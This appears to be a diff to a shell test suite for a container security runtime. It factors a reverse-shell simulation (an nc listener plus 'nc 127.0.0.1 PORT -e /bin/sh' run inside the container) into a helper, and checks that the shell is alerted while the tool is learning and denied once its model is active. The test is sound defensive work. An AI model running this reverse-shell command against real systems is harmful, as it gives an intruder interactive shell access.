@@ -22,6 +22,17 @@ expect_net_alert() {
 	fi
 }
 
+# reverse_shell_to PORT: in container $id, nc connects to a listener on
+# PORT in $netns and hands the connection to a shell (nc -e /bin/sh).
+reverse_shell_to() {
+	nsenter --net="$netns" "$BUSYBOX" nc -l -p "$1" </dev/null >/dev/null 2>&1 &
+	listener=$!
+	sleep 0.3
+	"$VIGIL_BUILDDIR/vigil-runc" --vigil-config "$conf" exec "$id" nc 127.0.0.1 "$1" -e /bin/sh >/dev/null 2>&1
+	kill "$listener" 2>/dev/null
+	wait "$listener" 2>/dev/null
+}
+
 # accepted PORT: connections the test server accepted on PORT.
 accepted() {
 	grep -cx "$1" "$WORK/accepts" 2>/dev/null || true
@@ -100,12 +111,7 @@ test_network() {
 		"$(cat "$WORK/alerts.json")"
 	# A reverse shell: nc hands its connection to a shell as its standard
 	# input and output.  A threat, alerted even while learning.
-	in_netns "$BUSYBOX" nc -l -p 7100 </dev/null >/dev/null 2>&1 &
-	listener=$!
-	sleep 0.3
-	rt exec "$id" nc 127.0.0.1 7100 -e /bin/sh >/dev/null 2>&1
-	kill "$listener" 2>/dev/null
-	wait "$listener" 2>/dev/null
+	reverse_shell_to 7100
 	expect_contains "a reverse shell is alerted while learning" \
 		'"reason":"reverse shell: standard input and output are a network connection (127.0.0.1:7100)","action":"alerted"' \
 		"$(grep 'reverse shell' "$WORK/alerts.json")"
@@ -131,12 +137,7 @@ test_network() {
 connected" "$LAST_OUTPUT"
 	expect_ok "learned listen works" rt exec "$id" nethelper listen 8080
 	expect_ok "learned datagram is sent" rt exec "$id" nethelper udp 127.0.0.1 5353
-	in_netns "$BUSYBOX" nc -l -p 7100 </dev/null >/dev/null 2>&1 &
-	listener=$!
-	sleep 0.3
-	rt exec "$id" nc 127.0.0.1 7100 -e /bin/sh >/dev/null 2>&1
-	kill "$listener" 2>/dev/null
-	wait "$listener" 2>/dev/null
+	reverse_shell_to 7100
 	expect_contains "a reverse shell is denied once the model is active" \
 		'"reason":"reverse shell: standard input and output are a network connection (127.0.0.1:7100)","action":"denied"' \
 		"$(grep 'reverse shell' "$WORK/alerts.json")"
